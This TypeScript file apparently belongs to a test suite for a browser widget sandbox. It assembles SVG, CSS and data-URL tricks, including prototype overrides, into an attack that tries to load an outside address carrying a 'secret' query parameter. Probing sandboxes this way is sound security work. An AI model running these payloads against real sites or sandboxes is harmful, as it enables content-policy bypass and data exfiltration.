/**
 * How an SVG sends a text, as a document that a style refers to. Firefox loads such a document without a policy. Each is the
 * body of a function of `address`, which returns the SVG.
 */
const DOCUMENTS: { readonly [name: string]: string } = {
  "an imported stylesheet": `return svg("<style>@import url(" + address + ")</style>");`,
  "a stylesheet of its own namespace": `
    return svg("<style xmlns='http://www.w3.org/1999/xhtml'>@import '" + address + "';</style>");`,
  "a linked stylesheet": `
    return svg("<link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='" + address + "'/>");`,
  "a stylesheet of XML": `return "<?xml-stylesheet type='text/css' href='" + address + "'?>" + svg("");`,
  "an escaped rule": `return svg("<style>@\\\\69mport '" + address + "';</style>");`,
  "a stylesheet with elements in it": `
    return svg("<style>@<title>media </title>import '" + address + "';</style><style>rect { fill: url(<foo>#</foo>" +
      address + "#a) } @<foo>media </foo>font-face { font-family: a; src: url(<foo>#</foo>" + address +
      ") } text { font-family: a }</style><text>a</text><rect width='9' height='9'/>");`,
  "a font": `
    return svg("<style>@font-face { font-family: a; src: url(" + address + ") } text { font-family: a }</style><text>a</text>");`,
  "a picture": `return svg("<image width='9' height='9' href='" + address + "'/>");`,
  "a picture of a filter": `return svg("<filter id='g'><feImage href='" + address + "'/></filter>");`,
  "a reference": `return svg("<use href='" + address + "#a'/>");`,
  "a script": `return svg("<script href='" + address + "'/>");`,
  "HTML": `
    return svg("<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='" + address + "'/></foreignObject>");`,
  "a style's reference": `
    return svg("<rect style='fill: url(" + address + "#a); cursor: url(" + address + "), auto' width='9' height='9'/>");`,
  "an animated address": `
    return svg("<image width='9' height='9'><set attributeName='href' to='" + address + "'/></image>");`,
  "an entity": `
    return "<!DOCTYPE svg [<!ENTITY e SYSTEM '" + address + "'>]>" + svg("<text>&e;</text>");`,
};

/** The documents that load an address. */
export function resourceDocuments(address: string): string[] {
  const svg = (content: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg">${content}<filter id="f"/><mask id="f"/></svg>`;
  return Object.values(DOCUMENTS).map((body) => new Function("svg", "address", body)(svg, address));
}

/** Where styles and attributes refer to a part of a document. */
export const REFERENCES: readonly string[] = [
  ...["filter", "backdrop-filter", "mask", "clip-path", "fill", "stroke", "offset-path", "shape-outside"],
  ...[
    "marker-start",
    "marker-mid",
    "marker-end",
    "cursor",
    "background",
    "list-style-image",
    "border-image-source",
  ],
];

const LINKS = [
  "use",
  "feImage",
  "image",
  "linearGradient",
  "pattern",
  "filter",
  "textPath",
  "mpath",
  "script",
];

/** What a widget does to have a text of its own loaded: directly, or as a picture that the page's own code converts. */
const SOURCES: { readonly [name: string]: string } = {
  "a data address": `return "data:image/svg+xml," + encodeURIComponent(text);`,
  "a data address in base64": `return "data:image/svg+xml;base64," + btoa(text);`,
  "a data address of XML": `return "data:application/xml," + encodeURIComponent(text);`,
  "a data address of XHTML": `return "data:application/xhtml+xml," + encodeURIComponent(text);`,
  "a blob": `return URL.createObjectURL(new Blob([text], { type: "image/svg+xml" }));`,
  "a picture that is read again": `
    const image = new Image();
    image.src = "data:image/svg+xml;base64," + btoa(text);
    return image.src;`,
  "a bitmap that is not one": `
    const image = new Image();
    image.src = "data:image/png;base64," + btoa(text);
    return image.src;`,
  "a blob by replaced iterators": `
    const iterators = Object.getPrototypeOf([][Symbol.iterator]());
    const { next } = iterators;
    const { [Symbol.iterator]: values } = Array.prototype;
    const { slice } = String.prototype;
    const image = new Image();
    const url = "data:image/svg+xml;base64," + btoa("<svg xmlns='http://www.w3.org/2000/svg'/>");
    iterators.next = () => ({ done: false, value: text });
    Array.prototype[Symbol.iterator] = () => ({ next: iterators.next });
    String.prototype.slice = () => ({ toString: () => text });
    try { image.src = url; } finally {
      iterators.next = next;
      Array.prototype[Symbol.iterator] = values;
      String.prototype.slice = slice;
    }
    return image.src;`,
};

/** The attack: the body of an async function, which returns whether it succeeded. */
export const RESOURCE_ATTACK = `
    const ns = "http://www.w3.org/2000/svg";
    const svg = (content) => "<svg xmlns='" + ns + "'>" + content + "<filter id='f'/><mask id='m'/><path id='p'/></svg>";
    const documents = {${functions(DOCUMENTS, "address")}};
    const sources = {${functions(SOURCES, "text")}};
    const place = element.appendChild(document.createElement("div"));
    const drawing = place.appendChild(document.createElementNS(ns, "svg"));
    const refer = (url) => {
      for (const property of ${JSON.stringify(REFERENCES)}) {
        for (const styled of [document.createElement("p"), document.createElementNS(ns, "path")]) {
          styled.textContent = "text";
          styled.setAttribute("d", "M0 0h9v9");
          styled.style.setProperty(property, 'url("' + url + '#f")');
          (styled.localName === "p" ? place : drawing).append(styled);
        }
      }
      for (const tag of ${JSON.stringify(LINKS)}) {
        const link = drawing.appendChild(document.createElementNS(ns, tag));
        try { link.setAttribute("href", url + "#f"); } catch {}
      }
      try {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync("div { filter: url('" + url + "#f') }");
        place.getRootNode().adoptedStyleSheets.push(sheet);
      } catch {}
    };
    for (const [source, toUrl] of Object.entries(sources)) {
      for (const [name, write] of Object.entries(documents)) {
        let url;
        try {
          url = toUrl(write(elsewhere + "/?secret=" + encodeURIComponent(name + " by " + source)));
        } catch { continue; }
        refer(url);
      }
    }
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    await new Promise((resolve) => setTimeout(resolve, 1500)); // timer: in the widget: nothing may be loaded meanwhile
    place.remove();
    return false;`;

function functions(bodies: { readonly [name: string]: string }, parameter: string): string {
  return Object.entries(bodies).map(([name, body]) => `${JSON.stringify(name)}: (${parameter}) => {${body}}`)
    .join();
}
